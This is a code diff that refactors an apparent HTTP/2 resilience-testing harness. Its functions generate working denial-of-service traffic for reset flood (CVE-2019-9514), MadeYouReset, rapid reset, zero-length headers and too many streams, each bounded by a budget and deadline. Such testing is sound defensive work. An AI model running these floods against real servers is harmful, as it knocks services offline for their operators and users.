@@ -190,19 +190,25 @@ def _flood(conn: Conn, unit: bytes, deadline: float, frames_per_unit: int, budge
         budget[0] -= per_batch
 
 
+def _new_streams(conn: Conn, per_stream, streams: int, frames_per_stream: int, deadline: float,
+                 budget: list) -> None:
+    """Batches of ``streams`` new streams (odd ids, in order), ``per_stream(sid)`` bytes each,
+    until the budget or the time is spent or the server ends the connection."""
+    sid = 1
+    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
+        conn.send(b"".join(per_stream(s) for s in range(sid, sid + 2 * streams, 2)), deadline)
+        sid += 2 * streams
+        budget[0] -= streams * frames_per_stream
+
+
 def reset_flood(port, deadline, budget):
     """CVE-2019-9514: frames that make the server send RST_STREAM (a WINDOW_UPDATE overflowing
     the window of a stream just opened), never reading."""
     conn = Conn(port, read=False)
     conn.send(PREFACE + settings(), deadline)
     block = request_block()
-    sid = 1
-    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
-        batch = b"".join(headers(s, block) + window_update(s, MAX_WINDOW)
-                         for s in range(sid, sid + 2000, 2))
-        sid += 2000
-        budget[0] -= 2000
-        conn.send(batch, deadline)
+    _new_streams(conn, lambda s: headers(s, block) + window_update(s, MAX_WINDOW), 1000, 2,
+                 deadline, budget)
     return conn
 
 
@@ -243,13 +249,8 @@ def madeyoureset(port, deadline, budget):
     conn = Conn(port)
     conn.send(PREFACE + settings(), deadline)
     block = request_block(b"/bytes/4194304")
-    sid = 1
-    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
-        batch = b"".join(headers(s, block) + frame(DATA, 0, s, b"x")
-                         for s in range(sid, sid + 200, 2))
-        sid += 200
-        budget[0] -= 200
-        conn.send(batch, deadline)
+    _new_streams(conn, lambda s: headers(s, block) + frame(DATA, 0, s, b"x"), 100, 2, deadline,
+                 budget)
     return conn
 
 
@@ -292,12 +293,7 @@ def zero_length_headers(port, deadline, budget):
     conn = Conn(port)
     conn.send(PREFACE + settings(), deadline)
     block = request_block() + b"\x00\x00\x00" * 600
-    sid = 1
-    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
-        batch = b"".join(headers(s, block) for s in range(sid, sid + 200, 2))
-        sid += 200
-        budget[0] -= 100
-        conn.send(batch, deadline)
+    _new_streams(conn, lambda s: headers(s, block), 100, 1, deadline, budget)
     return conn
 
 
@@ -306,13 +302,8 @@ def rapid_reset(port, deadline, budget):
     conn = Conn(port)
     conn.send(PREFACE + settings(), deadline)
     block = request_block(b"/slow?1")
-    sid = 1
-    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
-        batch = b"".join(headers(s, block) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")
-                         for s in range(sid, sid + 400, 2))
-        sid += 400
-        budget[0] -= 400
-        conn.send(batch, deadline)
+    _new_streams(conn, lambda s: headers(s, block) + frame(RST_STREAM, 0, s, b"\0\0\0\x08"),
+                 200, 2, deadline, budget)
     return conn
 
 
@@ -348,12 +339,7 @@ def too_many_streams(port, deadline, budget):
     conn = Conn(port)
     conn.send(PREFACE + settings(), deadline)
     block = request_block(b"/echo", b"POST")
-    sid = 1
-    while budget[0] > 0 and not conn.closed and time.monotonic() < deadline:
-        batch = b"".join(headers(s, block, end_stream=False) for s in range(sid, sid + 400, 2))
-        sid += 400
-        budget[0] -= 200
-        conn.send(batch, deadline)
+    _new_streams(conn, lambda s: headers(s, block, end_stream=False), 200, 1, deadline, budget)
     return conn
 
 
